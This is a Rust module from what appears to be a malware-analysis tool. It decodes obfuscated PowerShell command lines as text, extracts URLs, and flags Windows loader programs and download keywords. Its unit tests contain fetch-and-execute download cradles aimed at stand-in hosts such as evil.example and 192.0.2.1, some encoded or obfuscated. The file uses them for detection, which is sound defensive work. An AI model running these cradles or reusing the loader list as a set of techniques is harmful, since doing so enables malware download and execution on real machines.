//! Command lines: what of a PowerShell one is written so that nobody reads it, and where a command loads from.
//!
//! Nothing is run: what is decoded is read as text, again and again, for layers lie in layers.

use data_encoding::BASE64;

use super::powershell;
use crate::dissect::text::utf16;

/// Layers that are decoded, and octets of one.
const LAYERS: usize = 8;
const LAYER_MOST: usize = 1 << 20;
/// A text in base64 that may be script.
const BASE64_LEAST: usize = 24;
const ADDRESSES: usize = 16;

#[derive(Debug, Default, PartialEq, Eq)]
pub struct Command {
    /// What was decoded, the outermost first.
    pub decoded: Vec<String>,
    /// Addresses in it and in what was decoded.
    pub addresses: Vec<String>,
}

/// `-EncodedCommand` may be cut to any length, `-e` is enough; `/` begins an option, too.
const ENCODED: &str = "encodedcommand";

/// Programs of Windows that load what they are given an address of.
const LOADERS: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "certutil",
    "bitsadmin",
    "curl",
    "wget",
    "rundll32",
    "regsvr32",
    "msiexec",
    "hh.exe",
    "cmd",
    "wmic",
    "installutil",
    "desktopimgdownldr",
    "finger",
];
/// And words of PowerShell that do.
const LOADING: &[&str] = &[
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "start-bitstransfer",
    "webclient",
    "httpclient",
    "webrequest",
    "urldownloadtofile",
    "openread",
];

pub fn look(text: &str) -> Command {
    let mut command = Command::default();
    addresses(text, &mut command.addresses);
    let mut next = vec![text.to_owned()];
    while let Some(text) = next.pop() {
        for decoded in layers(&text) {
            if command.decoded.len() >= LAYERS || command.decoded.contains(&decoded) {
                continue;
            }
            addresses(&decoded, &mut command.addresses);
            command.decoded.push(decoded.clone());
            next.push(decoded);
        }
    }
    command
}

/// Whether a command line is one that loads, when there is an address in it.
pub fn loads(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let mut words = lower.split(|c: char| !c.is_alphanumeric() && !matches!(c, '-' | '.' | '_'));
    words.any(|word| {
        let stem = word.trim_end_matches(".exe");
        LOADERS.contains(&stem) || LOADING.iter().any(|l| word == *l || word.rsplit('.').next() == Some(l))
    })
}

fn layers(text: &str) -> Vec<String> {
    let mut found = encoded(text);
    // Put together, it is worth a word where it says more.
    let says_more = |plain: &String| {
        let mut named = Vec::new();
        addresses(plain, &mut named);
        named.iter().any(|address| !text.contains(address))
            || (loads(plain) && !loads(text))
            || encoded(plain).iter().any(|e| !found.contains(e))
    };
    let plain = powershell::plain(text).filter(says_more);
    found.extend(plain);
    found.extend(characters(text));
    found
}

fn encoded(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    let words = text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ',' | ';' | '`')).filter(|w| !w.is_empty());
    let mut is_option = false;
    // Carets and backticks are nothing to the shells, and hide words from who searches for them.
    for word in words {
        let plain: String = word.chars().filter(|c| !matches!(c, '^' | '`')).collect();
        let option = plain.strip_prefix(['-', '/', '\u{2013}', '\u{2014}']).map(str::to_ascii_lowercase);
        if std::mem::take(&mut is_option) || (plain.len() >= BASE64_LEAST && plain.chars().all(is_base64)) {
            found.extend(base64(&plain));
        }
        is_option = option.is_some_and(|o| o == "ec" || (!o.is_empty() && ENCODED.starts_with(&o)));
    }
    found
}

/// UTF-16 as PowerShell takes it, or plain text.
fn base64(word: &str) -> Option<String> {
    let clean = word.trim_end_matches('=');
    // Too little or too much padding decodes there, too.
    let whole = if clean.len() % 4 == 1 { &clean[..clean.len() - 1] } else { clean };
    let padded = format!("{whole}{}", &"=="[..(4 - whole.len() % 4) % 4]);
    let mut octets = BASE64.decode(padded.as_bytes()).ok()?;
    octets.truncate(LAYER_MOST);
    if octets.len() >= 4 && octets.chunks_exact(2).filter(|c| c[1] == 0).count() * 4 > octets.len() {
        return readable(utf16(&octets));
    }
    readable(String::from_utf8(octets).ok()?)
}

/// `[char]104+[char]116…`, and `[char[]](104,116,…)`: numbers that are characters.
fn characters(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    if !lower.contains("[char") {
        return None;
    }
    let (mut best, mut run) = (String::new(), String::new());
    for piece in lower.split(|c: char| !c.is_ascii_hexdigit() && c != 'x') {
        if matches!(piece, "" | "c") {
            continue;
        }
        let number = piece.strip_prefix("0x").map_or_else(|| piece.parse().ok(), |hex| u32::from_str_radix(hex, 16).ok());
        match number.and_then(char::from_u32).filter(|c| (' '..='~').contains(c) || c.is_whitespace()) {
            Some(c) => run.push(c),
            // "[char]" leaves its "c" and "a" behind.
            None if piece == "a" => {}
            None => {
                if run.len() > best.len() {
                    best = std::mem::take(&mut run);
                }
                run.clear();
            }
        }
    }
    if run.len() > best.len() {
        best = run;
    }
    (best.len() >= 8).then_some(best)
}

fn readable(text: String) -> Option<String> {
    let odd = text.chars().filter(|c| c.is_control() && !c.is_whitespace() || *c == '\u{fffd}').count();
    (text.len() >= 4 && odd * 20 < text.len()).then_some(text)
}

pub fn addresses(text: &str, into: &mut Vec<String>) {
    let lower = text.to_ascii_lowercase();
    for scheme in ["http://", "https://", "ftp://"] {
        for (at, _) in lower.match_indices(scheme) {
            let rest = text.get(at..).unwrap_or_default();
            let end = rest.find(|c: char| {
                c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '}' | ';' | ',' | '|')
            });
            let address = &rest[..end.unwrap_or(rest.len())];
            if into.len() < ADDRESSES && address.len() > scheme.len() && !into.iter().any(|known| known == address) {
                into.push(address.to_owned());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(text: &str) -> String {
        BASE64.encode(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
    }

    #[test]
    fn an_encoded_command_is_read_however_its_option_is_cut() {
        let inner = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')";
        for option in ["-EncodedCommand", "-enc", "-e", "/ec", "-eN^c", "\u{2013}enco"] {
            let command = look(&format!("powershell.exe -nop -w hidden {option} {}", utf16(inner)));
            assert_eq!(command, Command { decoded: vec![inner.into()], addresses: vec!["https://evil.example/a.ps1".into()] }, "{option}");
        }
    }

    #[test]
    fn layers_in_layers_end() {
        let mut text = "iwr http://192.0.2.1/x -OutFile x.exe; Start-Process x.exe".to_owned();
        for _ in 0..20 {
            text = format!("powershell -enc {}", utf16(&text));
            if text.len() > 100_000 {
                break;
            }
        }
        let command = look(&text);
        assert!(command.decoded.len() <= LAYERS && !command.decoded.is_empty());
        let one = look("$x=[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aXdyIGh0dHA6Ly8xOTIuMC4yLjEvYQ=='))");
        assert_eq!(one.addresses, ["http://192.0.2.1/a"]);
    }

    #[test]
    fn characters_are_put_together() {
        let command = look("&([char]105+[char]101+[char]120) ([char[]](104,116,116,112,58,47,47,97,46,98,47) -join '')");
        assert!(command.decoded.iter().any(|d| d.contains("http://a.b/")), "{command:?}");
    }

    #[test]
    fn pieces_are_put_together_where_they_say_more() {
        for text in [
            "powershell -c \"&('i'+'ex') (New-Object Net.WebClient).('Downl'+'oadString').Invoke('ht'+'tp://192.0.2.1/a')\"",
            "$u=(\"{2}{0}{1}\" -f '://192.0','.2.1/a','http'); i`wr $u",
            "iwr ('a/1.2.0.291//:ptth'[-1..-20] -join '')",
            "iwr 'hxxp://192.0.2.1/a'.replace('xx','tt')",
        ] {
            assert_eq!(look(text).addresses, ["http://192.0.2.1/a"], "{text}");
        }
        assert_eq!(look("$a = 'one' + 'two'; Write-Host $a"), Command::default());
    }

    #[test]
    fn what_says_nothing_says_nothing() {
        for text in [
            "",
            "notepad.exe C:\\Users\\erika\\letter.txt",
            "-e",
            "powershell -e",
            "powershell -Command Get-Date",
            "abc=def=ghi=jkl=mno=pqr=stu=",
        ] {
            assert_eq!(look(text), Command::default(), "{text}");
        }
        assert!(loads("mshta https://a.example/x") && loads("x=$w.DownloadString(") && !loads("notepad letter.txt"));
    }
}
